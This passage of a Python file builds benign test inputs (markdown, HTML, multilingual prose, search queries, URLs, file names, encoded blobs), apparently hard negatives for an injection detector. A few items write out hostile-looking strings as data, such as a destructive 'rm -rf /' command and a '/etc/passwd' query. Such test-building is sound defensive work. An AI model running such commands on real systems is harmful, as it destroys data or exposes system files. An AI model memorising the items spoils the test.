        "<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n  <version>2.24.1</version>\n</dependency>",
        True,
    ),
    ("c", '#include <stdio.h>\nint main(void) { printf("%d\\n", 42); return 0; }', False),
    ("kt", "val total = items.sumOf { it.price * it.qty }", False),
    ("swift", 'let url = URL(string: "https://api.lumenpay.io/v1/charges")!', False),
]
CODE_EXT = {
    "sh": "sh",
    "sql": "sql",
    "php": "php",
    "java": "java",
    "py": "py",
    "js": "js",
    "html": "html",
    "rb": "rb",
    "go": "go",
    "rs": "rs",
    "yaml": "yml",
    "dockerfile": "Dockerfile",
    "ps1": "ps1",
    "makefile": "Makefile",
    "xml": "xml",
    "c": "c",
    "kt": "kt",
    "swift": "swift",
}


def code_items():
    out = []
    for lang, src, hard in CODE_SNIPS:
        ext = CODE_EXT[lang]
        fn = ext if ext[0].isupper() else "snippet.%s" % ext
        out.append(
            B(
                src,
                hard=hard,
                only={"json", "form", "multipart", "xml", "query"}
                if "\n" not in src and len(src) < 120
                else {"json", "form", "multipart", "xml"},
                lang=lang,
                fn=fn,
            )
        )
    return out


# ---- benign_markdown ------------------------------------------------------
MARKDOWN = [
    B(
        "## Install\n\n```bash\npip install stackforge-cli\nstackforge login\n```\n\nThen run `stackforge deploy --env staging`.",
        hard=True,
    ),
    B(
        "# Release notes 2.4.1\n\n- Fixed crash when exporting CSV with `;` separators\n- Added `--dry-run` flag\n- Docs: see [upgrade guide](https://docs.stackforge.dev/upgrade)",
        hard=True,
    ),
    B("| Plan | Price | Seats |\n|------|------:|------:|\n| Free | $0 | 1 |\n| Pro | $12 | 5 |\n| Team | $49 | 25 |"),
    B("> **Note:** the API returns `404` if the project doesn't exist.\n\nSee also #1182 and @dana-w's comment."),
    B("- [x] Write migration\n- [ ] Backfill `orders.region`\n- [ ] Drop old column after release"),
    B('![Architecture diagram](https://assets.bluewillow-media.com/docs/arch-v3.png "v3")'),
    B(
        "<details>\n<summary>Stack trace</summary>\n\n```\nTypeError: Cannot read properties of undefined (reading 'id')\n    at render (app.js:12:7)\n```\n</details>",
        hard=True,
    ),
    B(
        "Use the query below to find duplicates:\n\n```sql\nSELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;\n```",
        hard=True,
    ),
    B("Footnotes work too.[^1]\n\n[^1]: Like this one."),
    B("<!-- TODO: update screenshots before launch -->\n# Getting started\n\nWelcome! 🎉", hard=True),
    B("**Bold**, _italic_, ~~strike~~, and `inline code`.\n\n1. First\n2. Second\n   - nested"),
    B("Math: $E = mc^2$ and $$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$", hard=True),
    B(
        "### API example\n\n```js\nconst res = await fetch('/api/v1/items', { method: 'POST', body: JSON.stringify(item) });\n```",
        hard=True,
    ),
    B("Thanks @li-wei for the review! Closes #4471, refs #4470."),
    B("## FAQ\n\n**Q: Can I use `<br>` in titles?**\nA: No, titles are plain text.", hard=True),
    B("Keyboard shortcuts: <kbd>Ctrl</kbd> + <kbd>K</kbd> opens search.", hard=True),
    B("```diff\n- const timeout = 30;\n+ const timeout = 60;\n```", hard=True),
    B(
        "Meeting notes 2026-12-07\n\n* union of both vendor lists → single sheet\n* drop the legacy importer\n* order by priority, not date",
        hard=True,
    ),
    B("[Download the PDF](https://files.orbitcrm.io/share/aB3dE9/Q3-report.pdf?dl=1)"),
    B("Setup:\n\n    export API_KEY=<your key>\n    ./run.sh --verbose", hard=True),
    B("# Título\n\nGracias por la ayuda — ¡funciona perfecto! 🚀"),
    B("## 使い方\n\n1. `npm install`\n2. `npm run dev`\n3. ブラウザで http://localhost:3000 を開く", hard=True),
    B("Rule of thumb: **never** run `rm -rf /` — ask in #ops first. 😅", hard=True),
    B('```yaml\nservices:\n  web:\n    image: nginx:1.27\n    ports: ["8080:80"]\n```', hard=True),
    B("| Key | Value |\n|---|---|\n| `$filter` | `status eq 'open'` |\n| `$top` | `10` |", hard=True),
    B("Changelog\n=========\n\n* 1.3.0 — support for `${ENV_VAR}` expansion in config files", hard=True),
    B("Quick poll: tabs or spaces? 🗳️\n\n- [ ] tabs\n- [ ] spaces"),
    B(
        "## Troubleshooting\n\nIf you see `ECONNREFUSED 127.0.0.1:5432`, start Postgres with `brew services start postgresql`.",
        hard=True,
    ),
    B('> "Premature optimization is the root of all evil." — Knuth'),
    B("Line one  \nLine two with trailing spaces  \nLine three\n\n---\n\n_Last edited by Dana_"),
    B('Image with size: <img src="https://assets.bluewillow-media.com/logo.svg" width="120" alt="logo">', hard=True),
    B('```python\nfor order in orders:\n    print(f"{order.id}: {order.total:.2f}")\n```', hard=True),
    B("See the [RFC 9110](https://www.rfc-editor.org/rfc/rfc9110#section-15.5.5) section on 404."),
    B("Escaping: \\*not italic\\*, \\`not code\\`, 5 \\* 3 = 15"),
    B("TL;DR — we're moving standup to 9:30; select your preferred day in the poll."),
    B(
        "## Compose a query\n\nType `status:open AND priority:high` in the search box, or use `OR` / `-label`.",
        hard=True,
    ),
]

# ---- benign_richtext ------------------------------------------------------
RICH = [
    B("<p>Hello <strong>team</strong>,</p><p>the Q4 numbers are in. 🎉</p>", hard=True),
    B(
        '<p>Read the <a href="https://docs.stackforge.dev/guide" target="_blank" rel="noopener noreferrer">setup guide</a> first.</p>',
        hard=True,
    ),
    B(
        '<p><img src="https://assets.bluewillow-media.com/2026/12/banner.jpg" alt="Winter sale banner" width="600" height="200"></p>',
        hard=True,
    ),
    B(
        '<table style="border-collapse:collapse;width:100%"><tbody><tr><td style="border:1px solid #ccc;padding:4px">SKU</td><td style="border:1px solid #ccc;padding:4px">Qty</td></tr><tr><td>BK-1001</td><td>2</td></tr></tbody></table>',
        hard=True,
    ),
    B("<ul><li>Milk</li><li>Eggs &amp; butter</li><li>Bread</li></ul>"),
    B('<ol start="3"><li>Open <em>Settings</em></li><li>Click <strong>Save</strong></li></ol>'),
    B('<p><span style="color:rgb(230, 0, 0);">Important:</span> office closed on Dec 24–26.</p>', hard=True),
    B("<blockquote><p>It always seems impossible until it's done.</p></blockquote>"),
    B("<h2>Agenda</h2><p>1. Budget<br>2. Hiring<br>3. Q&amp;A</p>"),
    B(
        '<figure class="image"><img src="https://cdn.quillandfern.co/img/pen-0.5.webp" alt="Fine pen"><figcaption>Our new 0.5 mm pen</figcaption></figure>',
        hard=True,
    ),
    B(
        '<p><a href="mailto:hr@corvid-systems.net">hr@corvid-systems.net</a> · <a href="tel:+4930123456">+49 30 123456</a></p>',
        hard=True,
    ),
    B('<div class="callout" data-type="warning"><p>Do not reply to this email.</p></div>'),
    B(
        '<p style="text-align:center;"><u>Underlined</u> and <s>struck</s> and <sub>sub</sub>/<sup>sup</sup></p>',
        hard=True,
    ),
    B('<pre><code class="language-sql">SELECT * FROM orders WHERE id = 42;</code></pre>', hard=True),
    B("<p>Price: <strong>€49,90</strong> <del>€59,90</del></p>"),
    B(
        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/aBcD1234xyz" title="Product demo" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
        hard=True,
    ),
    B("<p>Dear Mr. O&#39;Neil,</p><p>thank you for your order.</p>", hard=True),
    B("<p>Line one<br/>Line two</p><hr/><p><small>Sent from my phone</small></p>"),
    B('<p><font face="Arial" size="2">Legacy editor output</font></p>', hard=True),
    B(
        '<p class="MsoNormal"><span lang="EN-US" style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">Pasted from Word</span><o:p></o:p></p>',
        hard=True,
    ),
    B('<h3 id="faq">FAQ</h3><p><a href="#faq">Back to top</a></p>'),
    B(
        '<ul data-type="taskList"><li data-checked="true">Send invoice</li><li data-checked="false">Book venue</li></ul>',
        hard=True,
    ),
    B("<p>Our address: 1200 Main St #4B, Austin, TX 78701</p>"),
    B("<p><mark>Highlighted</mark> text and <code>inline_code()</code></p>", hard=True),
    B(
        '<p><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==" alt="" width="1" height="1"></p>',
        hard=True,
    ),
    B(
        "<table><thead><tr><th>Name</th><th>Role</th></tr></thead><tbody><tr><td>Sinéad</td><td>Lead</td></tr></tbody></table>"
    ),
    B("<p>Select your size below &mdash; or drop us a line if unsure.</p>", hard=True),
    B('<p dir="rtl">مرحباً بكم في متجرنا</p>'),
    B("<p>日本語のテキストと <strong>太字</strong></p>"),
    B(
        '<a href="https://www.meridianoutfitters.com/sale?utm_source=email&amp;utm_campaign=xmas" style="background:#0a7;color:#fff;padding:12px 20px;border-radius:4px;text-decoration:none">Shop now</a>',
        hard=True,
    ),
    B('<p>Meeting link: <a href="https://meet.orbitcrm.io/r/8812-ab">join</a> (password in calendar invite)</p>'),
    B(
        '<div style="max-width:600px;margin:0 auto;font-family:Helvetica,Arial,sans-serif"><h1 style="font-size:22px">Welcome!</h1></div>',
        hard=True,
    ),
    B("<p>Tip: type <kbd>/</kbd> to insert a block.</p>"),
    B("<p>5&nbsp;×&nbsp;3&nbsp;=&nbsp;15 &lt; 20</p>", hard=True),
    B(
        '<video controls width="480" poster="https://cdn.quillandfern.co/v/poster.jpg"><source src="https://cdn.quillandfern.co/v/demo.mp4" type="video/mp4"></video>',
        hard=True,
    ),
    B("<p>Q&amp;A: <em>Can I return sale items?</em> Yes, within 30 days.</p>"),
]

# ---- benign_prose ---------------------------------------------------------
PROSE = [
    B("I'd like to select a different delivery slot — Tuesday doesn't work for us.", hard=True),
    B("Can you drop the extra charge? The union rep said it was waived.", hard=True),
    B("Please order by Friday; after that, prices go up by 10%.", hard=True),
    B("We had 3 or 4 issues, but support resolved them quickly. Thanks!"),
    B("It's 1 or 2 days late — not a big deal, just FYI.", hard=True),
    B('Our contract\'s "where" clause says delivery goes to the back door.', hard=True),
    B('He said "select all that apply" but the form only let me pick one.', hard=True),
    B("Order #4471 arrived damaged; the box was crushed on one side.", hard=True),
    B("Drop-off at the front desk is fine; ask for Siobhán or Mr. O'Connor.", hard=True),
    B("I tried to update my card; it said 'declined' twice, then went through.", hard=True),
    B("Love it!!! 😍 Would buy again — 5/5 ⭐⭐⭐⭐⭐"),
    B("The exec team will review on Monday; after that, we'll update the roadmap.", hard=True),
    B("We're doing a union of both mailing lists for the holiday campaign.", hard=True),
    B("Table for 4 at 7:30 pm — one guest is vegan & another is allergic to nuts."),
    B("I can't log in; it says my password is wrong, but I just reset it.", hard=True),
    B("Rock 'n' roll never dies; neither does my 1998 Walkman.", hard=True),
    B("The mapping is 1=1 between SKUs and bins now, so picking should be faster.", hard=True),
    B("If you delete the old drafts, please keep the one named 'final_v2'.", hard=True),
    B("My name is Renée D'Amico-Smith; please don't drop the hyphen.", hard=True),
    B("Is it OK to bring a +1? (We'll RSVP by 12/15.)"),
    B("Sorry, I meant <3 not </3 — autocorrect ruined my message lol", hard=True),
    B("Shipping to P.O. Box #12; call 555-0134 if there's a problem.", hard=True),
    B("Please select 'Other' and type your reason; 50 characters max.", hard=True),
    B("Könnten Sie die Lieferung bitte auf Donnerstag verschieben? Danke & viele Grüße!"),
    B("Wir haben die Tabelle „Bestellungen“ versehentlich gelöscht – gibt's ein Backup?", hard=True),
    B("J'aimerais sélectionner une autre taille ; la commande n° 5531 est trop petite.", hard=True),
    B("C'est l'union qui fait la force, comme on dit !", hard=True),
    B("¿Podrían cambiar la dirección? Vivo en la calle O'Donnell, 3º izq.", hard=True),
    B("¡Gracias! El pedido llegó antes de lo previsto 🎉"),
    B("Olá! Não recebi o código; podem reenviar por SMS?"),
    B("Vorrei annullare l'ordine: ho sbagliato taglia, scusate.", hard=True),
    B("Kunnen jullie 's avonds bezorgen? Overdag ben ik niet thuis.", hard=True),
    B("Dzień dobry, czy mogę zmienić adres dostawy? Zamówienie nr 8812."),
    B("Merhaba, siparişim hâlâ gelmedi; kargo takip numarası çalışmıyor."),
    B("Здравствуйте! Можно выбрать (select) другой цвет? Заказ №4471.", hard=True),
    B("Дякую за швидку доставку! Все прийшло ціле."),
    B("Καλησπέρα, θα ήθελα να αλλάξω την ημερομηνία παράδοσης."),
    B("مرحباً، أريد تغيير عنوان التوصيل من فضلكم. شكراً!"),
    B("שלום, ההזמנה שלי הגיעה פגומה; אפשר החלפה?"),
    B("नमस्ते, मेरा ऑर्डर अभी तक नहीं आया है। कृपया जाँच करें।"),
    B("你好，我想把订单里的尺码改成 L，谢谢！"),
    B("こんにちは。注文番号 #5531 の配送日を変更できますか？よろしくお願いします 🙏"),
    B("안녕하세요, 배송지를 변경하고 싶습니다. 주문번호는 7781입니다."),
    B("สวัสดีครับ ขอเปลี่ยนที่อยู่จัดส่งได้ไหมครับ"),
    B("Xin chào, tôi muốn đổi sang size M được không ạ?"),
    B("Meeting notes: 1) drop legacy API; 2) union the two datasets; 3) order by priority — done ✅", hard=True),
    B('The kids\' choir sang "Silent Night" & "Jingle Bells" — not a dry eye in the house.'),
    B("Set the alarm for 5:45 — or 6 at the latest.", hard=True),
    B("Insert the tab into slot B, then fold along the dotted line.", hard=True),
    B("She wrote: 'Where there's a will, there's a way.' I couldn't agree more.", hard=True),
    B("Ich hätte gern 2 × 500 g Kaffee – gemahlen, nicht ganze Bohnen."),
    B("Best pizza in town, hands down. 🍕🍕🍕 Delivery guy was super friendly too."),
    B("We'll sleep on it and get back to you by 5 or so.", hard=True),
    B("Join us for the union-hall benefit concert, doors at 8; tickets $15 or 2 for $25.", hard=True),
    B("Ünlü şefin tarifi: 2 yumurta, 1 su bardağı süt; hepsini çırpın.", hard=True),
    B("Moi, j'ai dit « non » — et c'est tout !"),
    B("Nothing beats a rainy Sunday with tea & a good book ☕📚"),
    B(
        "Don't have an account? Sign up",
        hard=True,
        only={"json_key"},
        ctx={"jk_val": "Vous n'avez pas de compte ? Inscrivez-vous"},
    ),
    B("Select your size", hard=True, only={"json_key"}, ctx={"jk_val": "Wählen Sie Ihre Größe"}),
    B("Order by: price (low to high)", hard=True, only={"json_key"}, ctx={"jk_val": "並べ替え: 価格の安い順"}),
    B(
        "Drop files here or click to upload",
        hard=True,
        only={"json_key"},
        ctx={"jk_val": "Suelta los archivos aquí o haz clic para subir"},
    ),
    B(
        "You're all set! We'll email you when it ships.",
        hard=True,
        only={"json_key"},
        ctx={"jk_val": "Alles erledigt! Wir schicken dir eine E-Mail, sobald es versandt wird."},
    ),
]

# ---- benign_search --------------------------------------------------------
SEARCHES = [
    ("C++ templates", True),
    ("C# async await example", True),
    (".NET 8 minimal api", True),
    ("node.js stream pipe", False),
    ('"machine learning" -python', True),
    ("site:docs.stackforge.dev webhooks", True),
    ("*.tar.gz extract windows", True),
    ("rock & roll t-shirt", True),
    ("AT&T prepaid", True),
    ("50% off boots", True),
    ("$100-$200 headphones", True),
    ("Tom's diner lyrics", True),
    ("<br> vs <br/>", True),
    ("script tag async defer", True),
    ("alert() vs console.log", True),
    ("union two lists python", True),
    ("select dropdown css", True),
    ("drop shipping supplier", True),
    ("order by date sql", True),
    ("1 or 2 bedroom apartment", True),
    ("sleep(5) in bash", True),
    ("linux /etc/passwd format", True),
    ("cmd.exe vs powershell", True),
    ("O'Reilly books", True),
    ("women's shoes 8 1/2 wide", True),
    ("iphone 16 pro -case", False),
    ('"exact phrase" OR synonym', True),
    ("wildcard abc*", False),
    ("price:[10 TO 50]", True),
    ("README.md template", False),
    ("resume.pdf", False),
    ("config.yaml example", False),
    ("docker-compose.yml postgres", False),
    ("how to exit vim :wq", True),
    ("regex ^[a-z]+$", True),
    ("#hashtag trends", False),
    ("@mentions api", False),
    ("50/50 raffle", False),
    ("Q&A session", True),
    ("x^2 + y^2 = r^2", True),
    ("<3 emoji", True),
    ("Les Misérables", False),
    ("東京 ホテル", False),
    ("München Hauptbahnhof", False),
    ("café près de moi", False),
    ("🎄 gift ideas", False),
    ("1=1 meaning", True),
    ("SELECT * FROM explained", True),
    ("javascript:void(0) meaning", True),
    ("${HOME} variable bash", True),
    ("{{ }} jinja syntax", True),
    ("drop table vs truncate", True),
    ("union station chicago", True),
    ("wireless earbuds", False),
    ("red dress size 12", False),
    ("mac & cheese recipe", True),
    ("kids' rain boots", True),
    ("what does && mean in bash", True),
    ("git reset --hard HEAD~1", True),
    ("pipe | symbol keyboard", True),
    ("USB-C hub 4k@60hz", False),
    ("M&M's bulk", True),
    ("java.lang.NullPointerException fix", True),
    ("ssh -L port forwarding", True),
]


# ---- benign_urls ----------------------------------------------------------
def s3_url():
    b = R.choice(["brightkettle-uploads", "orbitcrm-files", "kestrel-labels"])
    key = R.choice(["invoices/2026/11/INV-5531.pdf", "exports/orders-2026-12-01.csv", "labels/KF-77120.pdf"])
    return (
        "https://%s.s3.eu-central-1.amazonaws.com/%s?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%%2F20261207%%2Feu-central-1%%2Fs3%%2Faws4_request"
        "&X-Amz-Date=20261207T1015%02dZ&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=%s"
        % (b, key, R.randint(0, 59), hexs(64))
    )


def gcs_url():
    return (
        "https://storage.googleapis.com/qf-exports/report-%d.csv?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=exporter%%40quillandfern-prod.iam.gserviceaccount.com%%2F20261207%%2Fauto%%2Fstorage%%2Fgoog4_request"
        "&X-Goog-Date=20261207T091200Z&X-Goog-Expires=3600&X-Goog-SignedHeaders=host&X-Goog-Signature=%s"
        % (R.randint(100, 999), hexs(256))
    )


def sas_url():
    sig = quote(b64(rbytes(32)), safe="")
    return (
        "https://orbitcrmfiles.blob.core.windows.net/attachments/contract-%d.docx?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-12-08T10:00:00Z&st=2026-12-07T10:00:00Z&spr=https&sig=%s"
        % (R.randint(1, 999), sig)
    )


URLS = [
    B("https://hooks.slack.com/services/T0B1C2D3E/B0F4G5H6I/%s" % alnum(24), hard=True, kind="webhook"),
    B(
        "https://discord.com/api/webhooks/1184%s/%s"
        % ("".join(R.choice(string.digits) for _ in range(15)), alnum(40, string.ascii_letters + string.digits + "-_")),
        hard=True,
        kind="webhook",
    ),
    B("https://app.brightkettle.com/oauth/callback", hard=True, kind="redirect"),
    B("https://hr.corvid-systems.net/auth/oidc/callback?provider=azure", hard=True, kind="redirect"),
    B("http://localhost:3000/callback", hard=True, kind="redirect"),
    B("com.brightkettle.app:/oauth2redirect", hard=True, kind="redirect"),
    B(s3_url(), hard=True, kind="file"),
    B(s3_url(), hard=True, kind="file"),
    B(gcs_url(), hard=True, kind="file"),
    B(sas_url(), hard=True, kind="file"),
    B("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", kind="link"),
    B(
        "https://github.com/stackforge/cli/releases/download/v2.4.1/stackforge_2.4.1_linux_amd64.tar.gz",
        hard=True,
        kind="link",
    ),
    B("https://docs.google.com/spreadsheets/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789/edit#gid=0", kind="link"),
    B(
        "https://www.meridianoutfitters.com/products/trail-runner-2?variant=4411&utm_source=newsletter&utm_medium=email&utm_campaign=bf_2026",
        kind="link",
    ),
    B("https://calendly.com/dana-w/30min?month=2026-12", kind="link"),
    B("https://en.wikipedia.org/wiki/Union_(set_theory)", hard=True, kind="link"),
    B("https://en.wikipedia.org/wiki/Select_(SQL)", hard=True, kind="link"),
    B(
        "https://stackoverflow.com/questions/1586560/how-do-i-escape-a-single-quote-in-sql-server",
        hard=True,
        kind="link",
    ),
    B("mailto:support@pinecrest-health.org?subject=Appointment%20change", hard=True, kind="link"),
    B("tel:+49-30-1234567", kind="link"),
    B("https://cdn.bluewillow-media.com/img/2026/12/hero@2x.webp", kind="image"),
    B("/dashboard?tab=billing&range=30d", hard=True, kind="next"),
    B("/orders/8812#activity", kind="next"),
    B("https://app.orbitcrm.io/deals/8812#activity", kind="link"),
    B(
        "https://id.corvid-systems.net/realms/main/protocol/openid-connect/auth?client_id=hr-portal&response_type=code&scope=openid%20profile&redirect_uri=https%3A%2F%2Fhr.corvid-systems.net%2Fcallback&state="
        + alnum(16),
        hard=True,
        kind="next",
    ),
    B("https://www.linkedin.com/in/sofia-ramirez-4b1a2/", kind="link"),
    B("https://api.lumenpay.io/v1/webhooks/receive", kind="webhook"),
    B("https://hooks.zapier.com/hooks/catch/1234567/%s/" % alnum(6).lower(), hard=True, kind="webhook"),
    B("https://status.tallgrass.cloud/api/v2/summary.json", kind="webhook"),
    B("https://archive.org/search?query=rock+%26+roll", hard=True, kind="link"),
    B("https://www.amazon.de/dp/B0C1XYZ123?ref_=ast_sto_dp&th=1", kind="link"),
    B("https://pinecrest-health.org/find-a-doctor?specialty=ENT&zip=02139&radius=10", kind="link"),
    B("https://shop.brightkettle.com/cart?items=BK-1001:2,BK-2044:1", kind="link"),
    B("https://www.figma.com/file/AbC123dEf/Checkout-v3?node-id=12%3A345", kind="link"),
    B("ftp://ftp.gnu.org/gnu/bash/", hard=True, kind="link"),
    B("https://raw.githubusercontent.com/stackforge/cli/main/install.sh", hard=True, kind="link"),
    B("https://www.google.com/maps/place/Oudegracht+201,+Utrecht/@52.0907,5.1214,17z", hard=True, kind="link"),
    B("https://partners.kestrelfreight.com/api/v2/tracking/events", kind="webhook"),
    B(
        "https://login.microsoftonline.com/common/oauth2/v2.0/logout?post_logout_redirect_uri=https%3A%2F%2Fapp.orbitcrm.io%2F",
        hard=True,
        kind="next",
    ),
    B("https://cdn.quillandfern.co/fonts/inter-var.woff2?v=4.0", kind="image"),
    B("https://images.unsplash.com/photo-1519681393784-d120267933ba?w=1200&q=80&fm=jpg&fit=crop", kind="image"),
    B("https://www.saltmarsh.travel/book?from=LIS&to=OPO&date=2026-12-20&pax=2", kind="link"),
]

# ---- benign_files ---------------------------------------------------------
FILES = [
    ("Q3 report (final) v2.pdf", True),
    ("résumé – Jane O'Connor.docx", True),
    ("IMG_20261122_183422.HEIC", False),
    ("budget_2027 [draft].xlsx", True),
    ("notes; meeting #4.txt", True),
    ("select-committee-minutes.pdf", True),
    ("drop zone mockup.png", True),
    ("union_station_tickets.pdf", True),
    ("cmd_reference.md", True),
    ("script.js", True),
    ("install.sh", True),
    ("backup-2026-12-01.tar.gz", False),
    ("Project Plan (v1) & Timeline.pptx", True),
    ("100% cotton care label.jpg", True),
    ("Invoice #2026-0042.pdf", True),
    ("Screenshot 2026-12-07 at 09.41.12.png", False),
    ("WhatsApp Image 2026-11-30 at 18.02.11.jpeg", False),
    ("Договор поставки №15.pdf", False),
    ("会議資料_2026年12月.pptx", False),
    ("تقرير_المبيعات.xlsx", False),
    ("naïve-bayes-notes.ipynb", False),
    ("data (1).csv", False),
    ("data (1) (1).csv", False),
    ("config.yaml", True),
    (".env.example", True),
    ("Dockerfile", False),
    ("docker-compose.override.yml", False),
    ("index.html", True),
    ("styles.min.css", False),
    ("2026_W49_timesheet.xls", False),
    ("photo@2x.png", False),
    (r"C:\Users\jdoe\Desktop\invoice.pdf", True),
    ("Documents/Projects/2026/plan.md", True),
    ("My Drive/Shared/Contracts/NDA – Acme.pdf", True),
    ("report.final.FINAL.v3.docx", False),
    ("sql_dump_schema_only.sql", True),
    ("select_all_orders.sql", True),
    ("union-pacific-route-map.pdf", True),
    ("Tom & Jerry's BBQ menu.pdf", True),
    ("O'Neil family photos.zip", True),
    ("Kundenliste; Stand 12-2026.csv", True),
    ("#general export.json", True),
    ("a+b=c notes.txt", True),
    ("[Archive] 2019.zip", True),
    ("Cost = Price x Qty.xlsx", True),
    ("web.config.sample", True),
    ("id_ed25519.pub", True),
    ("shell-scripting-cheatsheet.pdf", True),
    ("~$budget.xlsx", True),
    ("café menu – été 2026.pdf", False),
    ("IMG_4471 (edited).jpg", False),
    ("passport scan.pdf", False),
    ("logo_final_FINAL.svg", False),
]
EXT_CT = {
    "pdf": "application/pdf",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "txt": "text/plain",
    "md": "text/markdown",
    "csv": "text/csv",
    "json": "application/json",
    "yaml": "application/x-yaml",
    "yml": "application/x-yaml",
    "html": "text/html",
    "css": "text/css",
    "js": "text/javascript",
    "sh": "application/x-sh",
    "sql": "application/sql",
    "svg": "image/svg+xml",
    "ipynb": "application/x-ipynb+json",
    "xls": "application/vnd.ms-excel",
    "png": "image/png",
    "jpg": "image/jpeg",
    "jpeg": "image/jpeg",
    "heic": "image/heic",
    "zip": "application/zip",
    "gz": "application/gzip",
    "pub": "application/octet-stream",
    "sample": "application/octet-stream",
    "example": "text/plain",
}
MIN_PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
TEXT_CONTENT = {
    "txt": "Action items:\r\n- send deck\r\n- book room",
    "md": "# Plan\r\n\r\n- Q1: hire\r\n- Q2: launch",
    "csv": "name,email\r\nDana,dana@corpmail.net\r\nLi,li@corpmail.net",
    "json": '{"channel":"general","messages":[]}',
    "yaml": "server:\r\n  port: 8080\r\n",
    "yml": "services:\r\n  web:\r\n    image: nginx:1.27\r\n",
    "html": "<!doctype html><title>Draft</title><p>Hello</p>",
    "css": "body{margin:0;font-family:sans-serif}",
    "js": "export const sum = (a, b) => a + b;",
    "sh": '#!/bin/sh\r\necho "installing"\r\n',
    "sql": "CREATE TABLE orders (id bigint primary key);",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#0a7"/></svg>',
    "ipynb": '{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}',
    "pdf": MIN_PDF,
    "pub": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + alnum(43) + " dana@laptop",
    "sample": "<configuration>\r\n</configuration>",
    "example": "APP_ENV=local\r\nLOG_LEVEL=debug",
}


def file_ext(fn):
    base = fn.replace("\\", "/").split("/")[-1]
    return base.rsplit(".", 1)[-1].lower() if "." in base else ""


def file_items():
    out = []
    for fn, hard in FILES:
        ext = file_ext(fn)
        only = {"json", "json_key", "query", "path", "form"}
        if ext in TEXT_CONTENT:
            only.add("multipart")
        if all(ord(c) < 128 for c in fn):
            only.add("header")
        out.append(B(fn, hard=hard, only=only, ext=ext))
    # RFC 5987 / JSON-in-header forms of non-ASCII names (header values are taken literally)
    for fn in ["résumé – Jane O'Connor.docx", "会議資料_2026年12月.pptx", "café menu – été 2026.pdf"]:
        out.append(
            B(
                "attachment; filename*=UTF-8''" + quote(fn, safe=""),
                hard=True,
                only={"header"},
                hdr="X-Upload-Content-Disposition",
            )
        )
    for fn in [
        "/Documents/Q3 report (final) v2.pdf",
        "/Photos/2026/Osaka trip/IMG_0042.HEIC",
        "/Shared/Legal/NDA – Acme.pdf",
    ]:
        out.append(
            B(
                json.dumps({"path": fn, "mode": "add", "autorename": True, "mute": False}, ensure_ascii=True),
                hard=True,
                only={"header"},
                hdr="Dropbox-API-Arg",
            )
        )
    return out


# ---- benign_base64 --------------------------------------------------------
def png_bytes(w, h):
    raw = b"".join(b"\x00" + rbytes(w * 3) for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_field(num, wt, payload):
    key = varint((num << 3) | wt)
    if wt == 0:
        return key + varint(payload)
    return key + varint(len(payload)) + payload


def protobuf_msg():
    inner = pb_field(1, 2, R.choice(["BK-1001", "MO-TR2", "QF-PEN"]).encode()) + pb_field(2, 0, R.randint(1, 9))
    return (
        pb_field(1, 0, R.randint(1, 10**9))
        + pb_field(2, 2, R.choice(["Dana Whitfield", "Li Wei", "Aoife"]).encode("utf-8"))
        + pb_field(3, 2, inner)
        + pb_field(3, 2, inner[::-1][:0] + inner)
        + pb_field(4, 0, epoch())
    )


def base64_items():
    import gzip

    out = []
    for i in range(6):
        w, h = R.randint(2, 10), R.randint(2, 8)
        out.append(
            B(
                "data:image/png;base64," + b64(png_bytes(w, h)),
                hard=(i % 2 == 0),
                only={"json", "form", "multipart"},
                role="image",
            )
        )
    for i in range(3):
        out.append(
            B(b64(MIN_PDF.replace("Count 0", "Count %d" % i)), only={"json", "form", "multipart", "xml"}, role="pdf")
        )
    for i in range(5):
        out.append(
            B(
                b64(protobuf_msg()),
                hard=(i % 2 == 1),
                only={"json", "form", "query", "cookie", "header"},
                role="protobuf",
            )
        )
    for i in range(6):
        out.append(
            B(
                b64(rbytes(12) + rbytes(R.randint(24, 160)) + rbytes(16)),
                hard=(i % 2 == 0),
                only={"json", "form", "cookie", "multipart", "header"},
                role="ciphertext",
            )
        )
    for i in range(3):
        data = json.dumps(
            {"items": [{"sku": R.choice(SKUS), "qty": R.randint(1, 5)} for _ in range(4)], "v": 2}
        ).encode()
        out.append(B(b64(gzip.compress(data, mtime=0)), hard=True, only={"json", "form", "multipart"}, role="gzip"))
    for i in range(3):
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        xml = (
            '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2026-12-07T10:%02d:00Z" '
